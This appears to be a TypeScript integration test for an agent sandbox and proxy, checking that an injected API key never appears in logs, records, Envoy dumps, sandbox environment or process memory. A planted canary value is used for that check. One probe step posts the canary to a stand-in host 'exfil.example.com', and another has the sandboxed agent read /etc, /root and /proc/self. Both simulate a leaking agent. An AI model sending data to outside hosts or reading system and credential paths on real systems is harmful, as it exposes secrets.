import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { QUICKSTART } from '../fixtures/quickstart.ts';
import { showLogOnFailure, startStack, type TestStack } from './harness.ts';
import { formsIn, needlesOf, searchMemory, searchProcesses, searchTree, type Finding } from './support/canary.ts';
import { processesOf, withDescendants } from './support/leftovers.ts';
import { probeAgent } from './support/manifests.ts';

/**
 * The real key is in no record, log, configuration dump, sandbox file or environment. Each place is searched for the key in
 * every form, and for a twin that was planted there: a search that does not find the twin proves nothing.
 */

let stack: TestStack;
let needles: ReturnType<typeof needlesOf>;
/** Planted where an agent or operator may put things: template env, a request path, stderr. */
const twin = `twin-${randomBytes(24).toString('hex')}`;
const twins = needlesOf(twin);
let invocation: string;

const CHAT = 'https://api.openai.com/v1/chat/completions';
const chat = (model: string, stream: boolean) => ({
  fetch: {
    url: CHAT,
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: 'Bearer clrk-injected-by-proxy' },
    body: JSON.stringify({ model, stream, messages: [{ role: 'user', content: 'Hello there.' }] }),
  },
});

beforeAll(async () => {
  stack = await startStack();
  needles = needlesOf(stack.key);
  await stack.apply(probeAgent('canary', {}, { env: [{ name: 'TWIN', value: twin }] }));
  await stack.condition('taskagents', 'canary', 'Ready', 'True');
  // Everything a run can do with the key: used plain and streamed, refused by policy and by the provider, broken, denied.
  expect((await stack.invoke('summarizer', await readFile(join(QUICKSTART, 'document.txt'), 'utf8'))).status).toBe(200);
  const steps = [
    chat('gpt-4.1-mini', false),
    chat('gpt-4.1-mini', true),
    chat('gpt-5', false),
    chat('gpt-4.1-nope', false),
    chat('gpt-4.1-broken', false),
    chat('gpt-4.1-limited', false),
    chat('gpt-4.1-cut', true),
    { fetch: { url: `https://exfil.example.com/${twin}`, method: 'POST', body: 'x' } },
    { stderr: `${twin}\n` },
  ];
  const answer = await stack.probe('canary', ...steps);
  invocation = answer.invocation;
  expect(answer.results.slice(0, 6).map((result) => result!['status'])).toEqual([200, 200, 403, 404, 500, 429]);
  expect(formsIn(Buffer.from(JSON.stringify(answer)), needles)).toEqual([]);
  await stack.egressLog(invocation, (all) => all.some(({ path }) => path.includes(twin)));
});
afterAll(() => stack?.[Symbol.asyncDispose]());
beforeEach(() => showLogOnFailure(() => stack));

it('the canary works: the key was really used', async () => {
  expect((await stack.seen()).filter(({ headers }) => headers['authorization'] === `Bearer ${stack.key}`).length).toBeGreaterThanOrEqual(6);
});

it.each<[string, (value: Buffer) => Buffer]>([
  ['raw', (value) => value],
  ['base64', (value) => Buffer.from(Buffer.concat([Buffer.from('Authorization: Bearer '), value]).toString('base64'))],
  ['base64url', (value) => Buffer.from(Buffer.concat([Buffer.from('x'), value, Buffer.from('tail')]).toString('base64url'))],
  ['percent-encoded', (value) => Buffer.from([...value].map((byte) => `%${byte.toString(16)}`).join(''))],
  ['first half', (value) => value.subarray(0, value.length / 2)],
  ['hex', (value) => Buffer.from(value.toString('hex').toUpperCase())],
  ['UTF-16, big-endian', (value) => Buffer.from(value.toString(), 'utf16le').swap16()],
  ['second half in base64', (value) => Buffer.from(value.subarray(value.length / 2).toString('base64'))],
  ['gzip', (value) => gzipSync(Buffer.concat([Buffer.alloc(99), value]))],
])('the search finds a planted value: %s', async (_, form) => {
  const dir = await mkdtemp(join(stack.dir, 'planted-'));
  await writeFile(join(dir, 'file'), Buffer.concat([randomBytes(9_000_000), form(Buffer.from(twin)), randomBytes(100)]));
  expect((await searchTree(dir, twins)).found).toHaveLength(1);
  expect((await searchTree(dir, needles)).found).toEqual([]);
});

it('state directory: records, spool, keys, databases; the Secret itself is in the API database alone', async () => {
  // Images were packed before the key was made.
  const database = (path: string) => path.startsWith('api/api.db') || path === 'images';
  const { files, found } = await searchTree(stack.state, needles, database);
  expect(found).toEqual([]);
  expect(files).toBeGreaterThan(20);
  const planted = (await searchTree(stack.state, twins, database)).found.map(({ place }) => place.slice(stack.state.length + 1));
  expect(
    planted.some((place) => place.startsWith('workers/0/records/envoy-')),
    `twin found in ${planted.join(', ')}`,
  ).toBe(true);
});

it('run directory and log of clrk dev', async () => {
  const log = await readFile(stack.logFile);
  expect(formsIn(log, twins)).toContain('raw');
  expect(formsIn(log, needles)).toEqual([]);
  expect((await searchTree(stack.run, needles)).found).toEqual([]);
});

it('records, as anybody may read them', async () => {
  const list = await stack.api<object>('GET', '/apis/runtime.clrk.apoxy.dev/v1alpha1/namespaces/default/exchanges');
  const text = Buffer.from(JSON.stringify(list));
  expect(formsIn(text, twins)).toContain('raw');
  expect(formsIn(text, needles)).toEqual([]);
  const log = await stack.clrk(['egress', 'log', '-o', 'json']);
  expect(formsIn(Buffer.from(log.stdout), needles)).toEqual([]);
});

it("Envoy's configuration dump, certificates and statistics", async () => {
  const { found } = await searchTree(stack.run, needles);
  expect(found).toEqual([]);
  const socketPath = join(stack.run, 'w0', 'envoy-0', 'admin');
  for (const path of ['/config_dump?include_eds', '/certs', '/clusters', '/stats', '/server_info', '/memory']) {
    const answer = await stack.client.request({ url: `http://envoy${path}`, socketPath });
    if (answer.status === 403) continue; // not served at all
    expect([path, formsIn(Buffer.from(answer.text), needles)]).toEqual([path, []]);
    if (path.startsWith('/config_dump')) expect(answer.text).toContain('api.openai.com');
  }
});

const forms = (found: readonly Finding[]): string[] => [...new Set(found.flatMap((each) => each.forms))];

it('environment, command line and, while it runs, memory of the sandbox', async () => {
  const steps = [
    { env: true },
    { hold: twin },
    { files: ['/proc/self', '/etc', '/tmp', '/run', '/var', '/dev', '/home', '/root'] },
    chat('gpt-4.1-mini', true),
    chat('gpt-4.1-slow', true),
    { sleep: 3_000 },
  ];
  const traceId = randomBytes(16).toString('hex');
  const running = stack.invoke('canary', { steps }, { traceparent: `00-${traceId}-${randomBytes(8).toString('hex')}-01` });
  await stack.seenOf(traceId, 2);
  const all = await processesOf(stack.state, stack.run);
  expect(
    await searchProcesses(
      all.map(({ pid }) => pid),
      needles,
    ),
  ).toEqual([]);
  // Sentry, gofer, and what the sentry started to run guest code in: their memory holds that of the guest.
  const sandboxes = await withDescendants(all.filter(({ argv }) => /runsc/.test(argv[0]!)).map(({ pid }) => pid));
  const found: Finding[] = [];
  const sentries = await stack.pids('runsc-sandbox');
  expect(sentries).toHaveLength(1);
  // Without its kernel the agent stands still, for as long as the search takes.
  process.kill(sentries[0]!, 'SIGSTOP');
  try {
    const whole = (all: typeof needles): typeof needles => all.filter(({ form }) => !form.includes('half'));
    const both = [...whole(needles), ...whole(twins).map(({ form, bytes }) => ({ form: `twin: ${form}`, bytes }))];
    const files = new Set<number>();
    for (const pid of sandboxes) found.push(...(await searchMemory(pid, both, files)).found);
    expect(files.size, 'the file that is the memory of the guest was searched').toBeGreaterThan(0);
  } finally {
    process.kill(sentries[0]!, 'SIGCONT');
  }
  const inMemory = forms(found);
  expect(inMemory, 'what the agent has in its memory is found, in each form it has it in').toEqual(
    expect.arrayContaining(['twin: raw', 'twin: base64 at 0', 'twin: hex', 'twin: UTF-16', 'compressed, twin: raw']),
  );
  expect(inMemory.filter((form) => !form.includes('twin: '))).toEqual([]);
  // The same search where the key is: the Envoy that injects it.
  const envoys = await stack.pids('envoy');
  expect((await searchMemory(envoys[0]!, needlesOf(stack.key).slice(0, 1))).found.length, 'the key is in the memory of Envoy').toBeGreaterThan(0);

  // No core file can be written of any of them.
  for (const pid of await withDescendants([stack.devPid])) {
    const limits = await readFile(`/proc/${pid}/limits`, 'utf8').catch(() => '');
    if (pid !== stack.devPid && limits) expect([pid, /Max core file size +(\S+) +(\S+)/.exec(limits)?.slice(1)]).toEqual([pid, ['0', '0']]);
  }
  const answer = await running;
  expect(answer.status).toBe(200);
  expect(formsIn(Buffer.from(answer.text), twins)).toContain('raw');
  expect(formsIn(Buffer.from(answer.text), needles)).toEqual([]);
});
